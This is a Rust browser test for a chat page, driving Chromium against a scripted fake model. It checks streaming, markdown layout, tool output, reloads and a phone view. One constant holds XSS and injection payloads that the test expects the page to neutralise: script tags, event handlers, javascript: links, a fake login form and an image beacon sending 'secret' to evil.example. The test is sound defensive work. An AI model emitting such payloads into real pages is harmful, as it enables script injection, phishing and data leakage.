//! The chat page in a real browser. The steps are in `tests/browser/page.mjs`; this is the model's
//! script and what the steps ask for.

use std::process::Stdio;

use anyhow::{Context, Result, bail, ensure};
use integration_tests::model::{Reply, ScriptedModel};
use integration_tests::paths;
use integration_tests::stack::Stack;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::process::{ChildStdin, Command};

use crate::gate::{self, skipped, system};

const STORY: &str = "## A story\n\nThe beginning of it, ";

const STORY_END: &str = "with a **bold** word and a [link](https://example.com/a).\n\n\
    - one item\n- another item\n\n\
    ```rust\nfn main() { println!(\"a line of code that is rather long for the screen of a small \
    telephone, is it not\"); }\n```\n\n\
    | animal | shell | a column with a long name | another column with a long name |\n\
    |---|---|---|---|\n| crab | borrowed | yes | no |\n\n\
    averyveryverylongwordwithoutanyplacetobreakitaveryveryverylongwordwithoutanyplacetobreakit \
    and `some/very/long/path/in/code/that/nobody/can/break/some/very/long/path/in/code.rs`.";

const EVIL: &str = "<script>globalThis.hacked = 1</script>\n\n\
    <img src=\"https://evil.example/x.png\" onerror=\"globalThis.hacked = 1\">\n\n\
    <svg onload=\"globalThis.hacked = 1\"></svg> <iframe src=\"javascript:hacked=1\"></iframe>\n\n\
    <form action=\"https://evil.example\"><input name=\"key\"><button>Log in</button></form>\n\n\
    <style>body { display: none }</style>\n\n\
    [click](javascript:globalThis.hacked=1) <a href=\"data:text/html,x\" onclick=\"hacked=1\">y</a>\n\n\
    ![image](https://evil.example/track.png?q=secret)\n\n\
    <div style=\"position:fixed;inset:0\">over all</div>\n\n\
    That was all the evil.";

#[test]
fn the_page_in_a_browser() -> gate::Outcome {
    system("the_page_in_a_browser", async {
        let chromium = match paths::chromium() {
            Ok(chromium) => chromium,
            Err(reason) => {
                skipped("the_page_in_a_browser", &reason);
                return Ok(());
            }
        };
        let model = ScriptedModel::start().await?;
        script(&model);
        let mut stack = Stack::with(&model).await?;
        let mut command = Command::new(paths::node()?);
        command
            .arg(paths::root()?.join("tests/browser/page.mjs"))
            .env("PAGE_URL", &stack.url)
            .env("PAGURUS_NODE_MODULES", paths::node_modules()?)
            .env("PAGURUS_CHROMIUM", chromium)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .kill_on_drop(true);
        let failures = drive(command, &mut stack, &model).await?;
        if !failures.is_empty() {
            println!("{}", stack.tails());
            bail!("{} steps failed:\n{}", failures.len(), failures.join("\n"));
        }
        model.assert_done()?;
        stack.stop().await
    })
}

fn script(model: &ScriptedModel) {
    let paused = |said: &str, rest: &str| Reply::Paused { said: said.into(), rest: rest.into() };
    model.topic("page-stream").then(paused(STORY, STORY_END));
    let tool = model.topic("page-tool");
    tool.runs("echo shells-$((40 + 2))-here").says("There are 42 shells.");
    model.topic("page-evil").says(EVIL);
    model.topic("page-stop").then(paused("On and on ", "for ever"));
    model.topic("page-again").says("Well again.");
    model.topic("page-fail").then(Reply::Status(401));
    model.topic("page-reload").then(paused("Half of the tale ", "and its end."));
    model.topic("page-back").says("Yes, I am back.");
    model.topic("page-kept").says("Loud and clear.");
    model.topic("page-phone").says("Hello, phone.");
}

/// Runs the script, does what it asks, and gives the steps that failed.
async fn drive(
    mut command: Command,
    stack: &mut Stack,
    model: &ScriptedModel,
) -> Result<Vec<String>> {
    let mut child = command.spawn().context("starting Node")?;
    let mut answers = child.stdin.take().context("Node has no input")?;
    let mut lines = BufReader::new(child.stdout.take().context("Node has no output")?).lines();
    let mut failures = Vec::new();
    let mut steps = 0;
    while let Some(line) = lines.next_line().await? {
        println!("  {line}");
        match line.split(' ').collect::<Vec<_>>().as_slice() {
            ["ASK", request @ ..] => serve(request, stack, model, &mut answers).await?,
            ["FAIL", ..] => failures.push(line),
            ["ok", ..] => steps += 1,
            _ => {}
        }
    }
    let status = child.wait().await?;
    ensure!(status.success() || !failures.is_empty(), "the script ended with {status}");
    ensure!(steps > 0 || !failures.is_empty(), "the script took no step");
    Ok(failures)
}

async fn serve(
    request: &[&str],
    stack: &mut Stack,
    model: &ScriptedModel,
    answers: &mut ChildStdin,
) -> Result<()> {
    match request {
        ["release", topic] => model.topic(topic).release(),
        ["kill"] => stack.kill().await?,
        ["start"] => stack.start_again().await?,
        other => bail!("the script asks for {other:?}"),
    }
    answers.write_all(b"done\n").await.context("answering the script")
}
